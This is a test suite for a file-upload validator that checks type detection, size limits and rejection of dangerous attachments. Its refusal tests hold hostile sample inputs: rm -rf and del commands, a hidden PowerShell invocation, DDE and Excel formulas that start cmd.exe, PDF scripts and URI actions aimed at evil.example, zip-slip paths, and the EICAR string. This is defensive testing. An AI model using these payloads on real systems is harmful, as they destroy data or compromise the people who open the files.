import { deflateSync } from 'node:zlib';
import { createHash, randomUUID } from 'node:crypto';
import { existsSync, readdirSync, rmSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { messageOf } from '../../domain/errors';
import type { Result } from '../../domain/result';
import { FILE_TYPES } from '../../integrations/attachments/file-types';
import { folderStore } from '../../integrations/attachments/folder-store';
import { openAttachments } from '../../integrations/attachments/open-attachments';
import { receiveAttachment } from '../../integrations/attachments/receive-attachment';
import type { ReceivedFile, Reception } from '../../integrations/attachments/receive-attachment';
import { commandScan } from '../../integrations/attachments/scan-command';
import { temporaryDataDir } from '../servers';
import { compound, deflated, docx, heic, jpeg, misnamed, openDocument, p7s, packed, packedAs, pdf, pdfWith, png, relation, sayingSize, tiff, xlsx, zip } from './sample-files';

const root = temporaryDataDir('attachments');
const store = folderStore(root);
afterAll(() => rmSync(root, { recursive: true, force: true }));

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');
const newKey = (): string => randomUUID().replaceAll('-', '');
/** Every file in the storage, finished or not. */
const stored = (): string[] => (readdirSync(root, { recursive: true }) as string[]).filter((path) => statSync(join(root, path)).isFile());
/** In parts of several sizes, as a network brings them. */
const parts = (content: Buffer, size = 1_000): Readable => Readable.from(Array.from({ length: Math.ceil(content.length / size) }, (_, i) => content.subarray(i * size, (i + 1) * size)));

const MB = 1024 * 1024;
interface Sent {
  readonly name?: string;
  readonly mediaType?: string;
  readonly reception?: Partial<Reception>;
  readonly partSize?: number;
}
const receive = (content: Buffer | string | Readable, { name = 'tệp', mediaType, reception = {}, partSize }: Sent = {}, key = newKey()): Promise<Result<ReceivedFile>> =>
  receiveAttachment({ store, scan: null, limitBytes: 2 * MB, ...reception }, key, content instanceof Readable ? content : parts(Buffer.from(content), partSize), { name, mediaType });
const outcome = (result: Result<ReceivedFile>): string => (result.ok ? result.value.mediaType : result.refusal.code);

describe('a file received', () => {
  it('lies in the storage byte by byte, with its size and digest', async () => {
    const content = pdf(300_000);
    const key = newKey();
    const sha256 = createHash('sha256').update(content).digest('hex');
    expect(await receive(content, { name: 'Đơn.pdf', mediaType: 'application/pdf' }, key)).toEqual({
      ok: true,
      value: { mediaType: 'application/pdf', size: content.length, sha256, scan: 'unscanned' },
    });
    expect(await buffer((await store.get(key))!)).toEqual(content);
    expect(stored()).toContain(join(key.slice(0, 2), key.slice(2, 4), key));
    await store.remove(key);
    await store.remove(key);
    expect(await store.get(key)).toBeUndefined();
    expect(stored()).toEqual([]);
  });

  it('may be as large as the limit and no larger', async () => {
    expect(outcome(await receive(pdf(2 * MB)))).toBe('application/pdf');
    const refused = await receive(pdf(2 * MB + 1));
    expect(outcome(refused)).toBe('ATTACHMENT_TOO_LARGE');
    expect(!refused.ok && messageOf(refused.refusal)).toContain('larger than 2 MB');
  });

  it('of no end is stopped at the limit', async () => {
    let sent = 0;
    const endless = Readable.from((function* () { for (;;) { sent += 1; yield sent === 1 ? pdf(65_536) : Buffer.alloc(65_536); } })());
    expect(outcome(await receive(endless))).toBe('ATTACHMENT_TOO_LARGE');
    expect(sent * 65_536).toBeLessThan(4 * MB);
    endless.destroy();
  });
});

const XML = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- công văn --><edXML:edXML xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"><a/></edXML:edXML>';

describe('what a file is, its content says', () => {
  it.each<[string, Buffer | string, Sent, keyof typeof FILE_TYPES]>([
    ['a PDF', pdf(), { name: 'Đơn đề nghị.PDF', mediaType: 'application/pdf' }, 'pdf'],
    ['a PDF of whom nothing is said', pdf(), { mediaType: 'application/octet-stream' }, 'pdf'],
    ['a name with a date behind a dot', pdf(), { name: 'Quyết định 12.2026' }, 'pdf'],
    ['JPEG', jpeg, { name: 'a.jpeg', mediaType: 'image/jpg' }, 'jpeg'],
    ['PNG', png, { name: 'a.png' }, 'png'],
    ['TIFF', tiff, { name: 'a.tif' }, 'tiff'],
    ['HEIC of a telephone', heic('heic', 'mif1', 'heic'), { name: 'IMG_1.HEIC' }, 'heic'],
    ['HEIC of a general brand', heic('mif1', 'mif1', 'heic'), {}, 'heic'],
    ['DOCX', docx(), { name: 'a.docx', mediaType: FILE_TYPES.docx.mediaType }, 'docx'],
    ['DOCX declared as what it is packed in', docx(), { mediaType: 'application/zip' }, 'docx'],
    ['XLSX larger than what is kept of it', xlsx({ 'xl/media/image1.png': 'x'.repeat(900_000) }), { name: 'a.xlsx' }, 'xlsx'],
    ['ODT', openDocument('text'), { name: 'a.odt' }, 'odt'],
    ['ODS', openDocument('spreadsheet'), {}, 'ods'],
    ['DOC', compound('WordDocument', '1Table'), { name: 'a.doc', mediaType: 'application/msword' }, 'doc'],
    ['XLS', compound('Workbook'), { name: 'a.xls' }, 'xls'],
    ['edXML', XML, { name: 'a.edxml', mediaType: 'text/xml; charset=utf-8' }, 'xml'],
    ['text with diacritics', 'Kính gửi Ủy ban nhân dân xã\n'.repeat(1_000), { name: 'a.txt', mediaType: 'text/plain; charset=utf-8' }, 'txt'],
    ['a table', '\uFEFFhọ tên;năm sinh\nLò Văn Páo;1980\n', { name: 'a.csv', mediaType: 'text/csv' }, 'csv'],
    ['a detached signature', p7s, { name: 'a.p7s', mediaType: 'application/x-pkcs7-signature' }, 'p7s'],
    ['a detached signature as text', `-----BEGIN CMS-----\n${'A'.repeat(64)}\n-----END CMS-----\n`, { name: 'a.p7s' }, 'p7s'],
  ])('%s', async (_, content, sent, kind) => {
    for (const partSize of [1, 7, 65_536]) {
      if (partSize < 10 && content.length > 20_000) continue;
      expect(outcome(await receive(content, { ...sent, partSize }))).toBe(FILE_TYPES[kind].mediaType);
    }
  });

  const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2_000)]);
  const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
  const twice = deflateSync(deflateSync(Buffer.from(`1 0 ${SCRIPT}`)));
  const withPrefix = Buffer.concat([docx(), Buffer.from('and more')]);
  const encrypted = docx();
  encrypted.writeUInt16LE(1, encrypted.indexOf(Buffer.from('PK\x01\x02', 'latin1')) + 8);
  it.each<[string, Buffer | string, Sent, string]>([
    ['a program named as a PDF', MZ, { name: 'a.pdf', mediaType: 'application/pdf' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a Linux program', Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(100)]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a script', '#!/bin/sh\nrm -rf ~\n', { name: 'a.txt' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a script by its name', 'WScript.Echo(1)', { name: 'a.vbs' }, 'ATTACHMENT_TYPE_CONTRADICTED'],
    ['an archive', zip({ 'a.pdf': 'x' }), { name: 'a.zip' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['an archive named as a DOCX', zip({ 'run.exe': 'x' }), { name: 'a.docx' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['another archive', Buffer.concat([Buffer.from('Rar!\x1a\x07', 'latin1'), Buffer.alloc(99)]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX with something behind it', withPrefix, {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX cut off', docx().subarray(0, -30), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['an encrypted DOCX', encrypted, {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['nothing but the beginning of a ZIP', 'PK\x03\x04', {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a presentation', openDocument('presentation'), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX with macros', docx({ 'word/vbaProject.bin': 'x' }), { name: 'a.docx' }, 'ATTACHMENT_MACROS'],
    ['a document of the kind with macros', docx({ 'word/vbaProject.bin': 'x' }), { name: 'a.docm' }, 'ATTACHMENT_MACROS'],
    ['an XLSX with old macros', xlsx({ 'xl/macrosheets/sheet1.xml': 'x' }), {}, 'ATTACHMENT_MACROS'],
    ['an ODT with macros', openDocument('text', { 'Basic/Standard/Module1.xml': 'x' }), {}, 'ATTACHMENT_MACROS'],
    ['a DOC with macros', compound('WordDocument', 'Macros', 'VBA'), {}, 'ATTACHMENT_MACROS'],
    ['an installer', compound('\u4840\u3b3f'), { name: 'a.doc' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a web page', '<!DOCTYPE html><html><script>alert(1)</script></html>', { name: 'a.html' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a web page as text', '\n  <html><body onload=alert(1)>', { name: 'a.txt', mediaType: 'text/plain' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a web page as XML', '<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"/>', { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a web page within XML', '<a><s xmlns="http://www.w3.org/1999/xhtml"/></a>', { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a drawing that may run scripts', '<!-- x --><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', { name: 'a.svg' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['XML whose entities explode', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>', { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['XML that names a stylesheet', '<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>', {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a transformation', '<xsl:stylesheet version="1.0"/>', { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['what hides behind a long comment', `<!--${'x'.repeat(5_000)}--><html/>`, {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['text in another encoding', Buffer.from('Kính gửi', 'utf16le'), { name: 'a.txt' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['text that stops being text late', Buffer.concat([Buffer.from('đúng\n'.repeat(5_000)), Buffer.from([0])]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['text that ends within a character', Buffer.from('Kính gử').subarray(0, -1), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['another image', 'GIF89a\x01\x00\x01\x00', { name: 'a.gif' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a film in the same box as HEIC', heic('isom', 'mp42'), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PDF declared as an image', pdf(), { name: 'a', mediaType: 'image/png' }, 'ATTACHMENT_TYPE_CONTRADICTED'],
    ['a PDF named as an image', pdf(), { name: 'a.png' }, 'ATTACHMENT_TYPE_CONTRADICTED'],
    ['a PDF named as a program', pdf(), { name: 'a.pdf.exe' }, 'ATTACHMENT_TYPE_CONTRADICTED'],
    ['a text named as a signature', 'chữ ký', { name: 'a.p7s' }, 'ATTACHMENT_TYPE_CONTRADICTED'],
    ['nothing at all', '', { name: 'a.pdf' }, 'ATTACHMENT_EMPTY'],
    ['a drawing within XML, far behind its beginning', `<a>${' '.repeat(5_000)}<s xmlns="http://www.w3.org/2000/svg"><script/></s></a>`, { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a web page whose namespace is written in character references', '<a><s xmlns="http://www.w3.org/&#49;999/xhtml"/></a>', { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['XML in an encoding that hides its elements', '<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>', { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['XML that does not hold together', '<a><b></a>', { name: 'a.xml' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PDF with a script', pdfWith('<</S/JavaScript/JS(app.alert(1))>>'), { name: 'a.pdf' }, 'ATTACHMENT_ACTIVE'],
    ['a PDF with a script that opens with it', pdfWith('<</Type/Catalog/OpenAction<</S/JavaScript/JS(1)>>>>'), { name: 'a.pdf' }, 'ATTACHMENT_ACTIVE'],
    ['a PDF with a script whose name is written in numbers', pdfWith('<</S/J#61vaScript/#4a#53(1)>>'), { name: 'a.pdf' }, 'ATTACHMENT_ACTIVE'],
    ['a PDF that starts a program', pdfWith('<</S/Launch/F(cmd.exe)>>'), { name: 'a.pdf' }, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose script is packed with other objects', pdfWith(packed('<</S/JavaScript/JS(1)>>')), { name: 'a.pdf' }, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose packed objects cannot be read', pdfWith('<</Type/ObjStm/Filter/FlateDecode>>\nstream\nnot packed at all\nendstream'), { name: 'a.pdf' }, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose packed objects are packed twice', pdfWith(packedAs('[/FlateDecode/FlateDecode]', twice)), { name: 'a.pdf' }, 'ATTACHMENT_ACTIVE'],
    ['… with the short name', pdfWith(packedAs('[/Fl/Fl]', twice)), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose packed objects are hexadecimal', pdfWith(packedAs('[/FlateDecode/ASCIIHexDecode]', deflateSync(Buffer.from('31 30 20 30 20'.concat(Buffer.from(SCRIPT).toString('hex')))))), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose packed objects are differences', pdfWith(packedAs('/FlateDecode', deflateSync(Buffer.from(`1 0 ${SCRIPT}`)), '/DecodeParms<</Predictor 12>>')), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose packed objects do not say what they are', pdfWith(Buffer.from(packed(SCRIPT).toString('latin1').replace('/Type/ObjStm', ''), 'latin1')), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose packed objects say it late', pdfWith(Buffer.from(packed(SCRIPT).toString('latin1').replace('/N 1', `/X(${' '.repeat(4_000)})/N 1`), 'latin1')), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose script stands in what looks like a stream', pdfWith('(<<>>stream\n)\nendobj\n2 0 obj\n<</S/JavaScript/JS(1)>>\nendobj\n3 0 obj\n(endstream)'), {}, 'ATTACHMENT_ACTIVE'],
    ['… and whose heading is cut by a comment', pdfWith('(<<>>stream \r\n)\nendobj\n2 0%\n          obj<</S/JavaScript/JS(1)>>\nendobj\n3 0 obj\n(endstream)'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF that goes to a page of the web when it is opened', pdfWith('<</Type/Catalog/OpenAction<</S/URI/URI(http://evil.example)>>>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['… by an object of its own', pdfWith('<</OpenAction 5 0 R>>\nendobj\n5 0 obj\n<</S/URI/URI(http://evil.example)>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['… by a packed object', pdfWith(latin1(`<</OpenAction 8 0 R>>\nendobj\n6 0 obj\n${packed('<</S/URI/URI(http://evil.example)>>', 8).toString('latin1')}`)), {}, 'ATTACHMENT_ACTIVE'],
    ['… after it has gone to a place', pdfWith('<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil)>>>>>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['… behind much that is empty', pdfWith(`<</OpenAction<</S/GoTo/D[3 0 R]${' '.repeat(9_000)}/Next<</S/URI/URI(http://evil)>>>>>>`), {}, 'ATTACHMENT_ACTIVE'],
    ['… behind what looks like its end', pdfWith('<</OpenAction<</S/GoTo/D(>>)%>>\n/Next<</S/URI/URI(http://evil)>>>>>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['… behind a comment', pdfWith(`<</OpenAction%${'x'.repeat(500)}\n<</S/URI/URI(http://evil)>>>>`), {}, 'ATTACHMENT_ACTIVE'],
    ['… by one of two objects, whose heading is cut by a comment', pdfWith('<</OpenAction 5 0 R>>\nendobj\n5 0 obj [3 0 R] endobj\n5 %\n0 obj\n<</S/URI/URI(http://evil)>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF that prints itself', pdfWith('<</OpenAction%\n<</S/Named/N/Print>>>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF that does what nobody can see when it is opened', pdfWith('<</OpenAction 99 0 R>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose page goes to the web when it is shown', pdfWith('<</Type/Page/AA<</O<</S/URI/URI(http://evil.example)>>>>>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF whose stream lies on another machine', pdfWith('<</F(\\\\evil\\share\\a)/Length 0>>\nstream\n\nendstream'), {}, 'ATTACHMENT_ACTIVE'],
    ['… by an object of its own', pdfWith('<</F 7 0 R/Length 0>>\nstream\n\nendstream\nendobj\n7 0 obj\n(\\\\evil\\a)'), {}, 'ATTACHMENT_ACTIVE'],
    ['a protected PDF', Buffer.from(pdfWith('<</Type/Catalog>>').toString('latin1').replace('trailer<<', 'trailer<</Encrypt 9 0 R'), 'latin1'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF with a form that has a program', pdfWith('<</AcroForm<</XFA 9 0 R>>>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF with a program in it', pdfWith('<</Names<</EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>>>'), {}, 'ATTACHMENT_ACTIVE'],
    ['a PDF that is an archive, too', Buffer.concat([pdf(), zip({ 'evil.exe': 'MZ' })]), { name: 'a.pdf' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['… with an end of a PDF as its comment', Buffer.concat([pdf(), zip({ 'evil.exe': 'MZ' }, { comment: '%%EOF' })]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PDF with a program behind it', Buffer.concat([pdf(), MZ]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PDF with a web page behind it', Buffer.concat([pdf(), Buffer.from('<SCRIPT >alert(1)</SCRIPT>')]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a JPEG that is an archive, too', Buffer.concat([jpeg, zip({ 'evil.exe': 'MZ' })]), { name: 'a.jpg' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a JPEG with a script in its comment', Buffer.concat([jpeg.subarray(0, 12), Buffer.from('fffe0020', 'hex'), Buffer.from('<script>alert(1)</script>'), jpeg.subarray(12)]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a JPEG with a web page behind it', Buffer.concat([jpeg, Buffer.from('<script>alert(1)</script>')]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a JPEG with a program behind it', Buffer.concat([jpeg, MZ]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PNG with a program behind it', Buffer.concat([png, MZ]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PNG with another archive behind it', Buffer.concat([png, Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1')]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a TIFF that is an archive, too', Buffer.concat([tiff, zip({ 'evil.exe': 'MZ' })]), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PDF cut off', pdf().subarray(0, -10), { name: 'a.pdf' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX with a template from elsewhere', docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm') }), { name: 'a.docx' }, 'ATTACHMENT_ACTIVE'],
    ['a DOCX with an image from elsewhere', docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example/pixel.png') }), {}, 'ATTACHMENT_ACTIVE'],
    ['a DOCX with an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' }), { name: 'a.docx' }, 'ATTACHMENT_ACTIVE'],
    ['a DOCX with a control', docx({ 'word/activeX/activeX1.xml': '<a/>' }), {}, 'ATTACHMENT_ACTIVE'],
    ['a DOCX with a field that starts a program', docx({ 'word/header1.xml': '<w:p><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\windows\\cmd.exe</w:instrText></w:p>' }), {}, 'ATTACHMENT_ACTIVE'],
    ['a DOCX whose parts would be unpacked elsewhere', docx({ '../../etc/cron.d/x': 'x' }), { name: 'a.docx' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX whose parts would be unpacked elsewhere by Windows', docx({ 'word\\..\\..\\x.xml': '<a/>' }), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX that unpacks to 300 MB', sayingSize(docx({ 'word/media/image1.png': 'x' }), 'word/media/image1.png', 300 * MB), { name: 'a.docx' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX whose part is larger than it says', deflated('word/document.xml', Buffer.alloc(9 * MB, 0x20), 10), { name: 'a.docx' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX with a document type in a part', docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>' }), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['a DOCX with macros before whose content another name stands', misnamed(docx({ 'word/vbaProjekt.xml': '<a/>' }), 'word/vbaProjekt.xml', 'word/vbaProject.bin'), {}, 'ATTACHMENT_TYPE_REFUSED'],
    ['an XLSX whose formula starts a program', xlsx({ 'xl/worksheets/sheet1.xml': "<sheetData><c><f>cmd|'/c calc'!A0</f></c></sheetData>" }), { name: 'a.xlsx' }, 'ATTACHMENT_ACTIVE'],
    ['an XLSX with a link to a program', xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }), {}, 'ATTACHMENT_ACTIVE'],
    ['an ODT with an image from elsewhere', openDocument('text', { 'styles.xml': '<draw:image xlink:href="https://evil.example/a.png"/>' }), {}, 'ATTACHMENT_ACTIVE'],
    ['a JPEG of four bytes', Buffer.from('ffd8ffe0', 'hex'), { name: 'a.jpg' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a PNG cut off', png.subarray(0, 300), { name: 'a.png' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a batch file without an ending', '@echo off\r\ndel /q c:\\*\r\n', { name: 'dondenghi' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['a command without an ending', 'powershell -nop -w hidden -c "iex(1)"', { name: 'dondenghi' }, 'ATTACHMENT_TYPE_REFUSED'],
    ['the test file of virus scanners, without a scanner', ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''), { name: 'a.txt' }, 'ATTACHMENT_INFECTED'],
  ])('%s is refused, and nothing is kept', async (_, content, sent, code) => {
    const before = stored();
    for (const partSize of [9, 65_536]) expect(outcome(await receive(content, { ...sent, partSize }))).toBe(code);
    expect(stored()).toEqual(before);
  });

  it('says what it found and what is allowed, in both languages', async () => {
    const refused = await receive(zip({ 'a.pdf': 'x' }));
    if (refused.ok) throw new Error('accepted');
    expect(messageOf(refused.refusal)).toBe('"file" is an archive by its content; allowed are PDF, JPEG, PNG, TIFF, HEIC, DOCX, XLSX, ODT, ODS, DOC, XLS, XML, CSV, TXT, P7S');
    expect(messageOf(refused.refusal, 'vi')).toContain('"file" có nội dung là tệp nén; chỉ nhận PDF');
  });
});

describe('what looks dangerous and is not, is taken', () => {
  it.each<[string, Buffer | string, Sent, keyof typeof FILE_TYPES]>([
    ['a PDF that opens at a certain page', pdfWith('<</Type/Catalog/OpenAction[3 0 R/Fit]>>'), { name: 'a.pdf' }, 'pdf'],
    ['a PDF that goes to a page by an action', pdfWith('<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>'), {}, 'pdf'],
    ['a PDF that goes to a page by a packed action', pdfWith(latin1(`<</OpenAction 8 0 R>>\nendobj\n6 0 obj\n${packed('<</S/GoTo/D[3 0 R/Fit]>>', 8).toString('latin1')}`)), {}, 'pdf'],
    ['a PDF with a link to click on', pdfWith('<</Type/Annot/Subtype/Link/F 4/A<</S/URI/URI(https://dichvucong.gov.vn)>>>>'), {}, 'pdf'],
    ['a PDF with a table of contents before a picture', pdfWith('<</Type/Outlines/First 3 0 R/Last 45 0 R>>\nendobj\n4 0 obj\n<</Subtype/Image/Filter/DCTDecode>>\nstream\nxx\nendstream'), {}, 'pdf'],
    ['a PDF with a font that is called F', pdfWith('<</Font<</F 5 0 R>>>>\nendobj\n5 0 obj\n<</Type/Font/Subtype/Type1>>'), {}, 'pdf'],
    ['a PDF that was added to', Buffer.concat([pdfWith('<</Type/Catalog>>'), Buffer.from('2 0 obj\n<<>>\nendobj\n%%EOF\n')]), {}, 'pdf'],
    ['a PDF with packed objects', pdfWith(packed('<</Type/Page>>')), { name: 'a.pdf' }, 'pdf'],
    ['a PDF whose drawing happens to look like an action', pdfWith(`<</Length 30>>\nstream\n/JavaScript /Launch\nendstream`), { name: 'a.pdf' }, 'pdf'],
    ['a DOCX with a link to click on', docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'https://dichvucong.gov.vn') }), { name: 'a.docx' }, 'docx'],
    ['a DOCX that speaks of DDE', docx({ 'word/footer1.xml': '<w:p><w:t>DDEAUTO is a danger</w:t></w:p>' }), {}, 'docx'],
    ['an XLSX with a formula', xlsx({ 'xl/worksheets/sheet1.xml': '<c><f>SUM(A1:A3)*0.1</f></c>' }), { name: 'a.xlsx' }, 'xlsx'],
    ['a JPEG with something behind its end', Buffer.concat([jpeg, Buffer.from('motion')]), { name: 'a.jpg' }, 'jpeg'],
    ['CSV with a formula', '=1+1;a\n', { name: 'a.csv' }, 'csv'],
    ['text with a script in it', 'Kính gửi: <script>alert(1)</script>', { name: 'a.txt' }, 'txt'],
    ['text that names a command later', 'Đơn đề nghị\npowershell is not used here', { name: 'a.txt' }, 'txt'],
  ])('%s', async (_, content, sent, kind) => {
    for (const partSize of [9, 65_536]) expect(outcome(await receive(content, { ...sent, partSize }))).toBe(FILE_TYPES[kind].mediaType);
  });
});

test.each<[string, string]>([
  ['numbers', '1'],
  ['references to a file', '/F 1 0 R '],
  ['openings', '/OpenAction[1 0 R]'],
  ['comments without an end', '1%'],
  ['objects', '1 0 obj '],
  ['words', '\n%\nobj'],
  ['blanks', '\n'],
  ['comments', '/F%'.concat('x'.repeat(90), '\n')],
  ['beginnings of streams', '1 0 obj stream\n'],
  ['ends', '%%EOF'],
  ['pages', '<'],
])('a PDF of 1.9 MB of %s is looked through in no time', async (_, repeated) => {
  const content = pdfWith(repeated.repeat(Math.floor((1.9 * MB) / repeated.length)));
  const began = Date.now();
  await receive(content);
  expect(Date.now() - began).toBeLessThan(3_000);
}, 20_000);

test('nothing of a file that was looked through stays in the temporary folder', async () => {
  await receive(docx());
  await receive(docx({ '../x': 'x' }));
  await receive(new Readable({ read() { this.push(docx().subarray(0, 60)); this.destroy(new Error('gone')); } }));
  expect(readdirSync(tmpdir()).filter((name) => name.startsWith('lienthong-spool-'))).toEqual([]);
});

describe('an upload that breaks off', () => {
  let server: Server;
  let heard: (result: Result<ReceivedFile>) => void;
  const url = (): AddressInfo => server.address() as AddressInfo;
  beforeAll(async () => {
    server = createServer((request, response) => {
      void receive(request, { name: 'a.pdf' }).then((result) => {
        heard(result);
        response.writeHead(result.ok ? 201 : 400, { connection: 'close' }).end(outcome(result));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => new Promise((resolve) => server.close(resolve)));

  it.each([
    ['before the first byte', 0],
    ['within the head', 100],
    ['near the end', 1_900_000],
  ])('%s leaves nothing', async (_, sent) => {
    const before = stored();
    const answered = new Promise<Result<ReceivedFile>>((resolve) => { heard = resolve; });
    const socket = connect(url().port, '127.0.0.1');
    socket.on('error', () => undefined);
    socket.write('POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 2000000\r\n\r\n');
    socket.write(pdf(2_000_000).subarray(0, sent), () => setTimeout(() => socket.destroy(), 50));
    expect(outcome(await answered)).toBe('ATTACHMENT_BROKEN_OFF');
    expect(stored()).toEqual(before);
  });

  it('a refusal before the end still reaches the sender', async () => {
    heard = () => undefined;
    const answer = await fetch(`http://127.0.0.1:${url().port}/`, { method: 'POST', body: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(8_000)]) });
    expect(await answer.text()).toBe('ATTACHMENT_TYPE_REFUSED');
  });

  it('a storage that fails is no refusal, and leaves nothing', async () => {
    const before = stored();
    const failing = { ...store, put: (key: string, content: AsyncIterable<Uint8Array>) => store.put(key, (async function* () { for await (const chunk of content) { yield chunk; throw new Error('ENOSPC'); } })()) };
    await expect(receive(pdf(), { reception: { store: failing } })).rejects.toThrow('ENOSPC');
    expect(stored()).toEqual(before);
  });

  it('what a killed process left half-written goes with its key', async () => {
    const key = newKey();
    let [more, reached] = [(): void => undefined, (): void => undefined];
    const half = new Promise<void>((resolve) => { reached = resolve; });
    const never = new Promise<void>((resolve) => { more = resolve; });
    const writing = store.put(key, (async function* () { yield Buffer.from('half'); reached(); await never; throw new Error('killed'); })()).catch(() => undefined);
    await half;
    expect(existsSync(join(root, 'incoming', key))).toBe(true);
    await store.remove(key);
    expect(stored().filter((path) => path.includes(key))).toEqual([]);
    more();
    await writing;
  });
});

/** In two pieces, or scanners would complain about this very file. */
const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR${'-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'}`;
const SCANNER = '! grep -qaF EICAR-STANDARD-ANTIVIRUS';

describe('the virus scanner', () => {
  const scanned = (command: string, content: Buffer | string, patienceMs?: number): Promise<Result<ReceivedFile>> => receive(content, { reception: { scan: commandScan(command, patienceMs) } });

  it('gets the whole file on standard input, and says that it is clean', async () => {
    const content = pdf(1_500_000);
    const digest = createHash('sha256').update(content).digest('hex');
    expect(await scanned(`test "$(sha256sum | cut -c1-64)" = ${digest}`, content)).toMatchObject({ ok: true, value: { scan: 'clean' } });
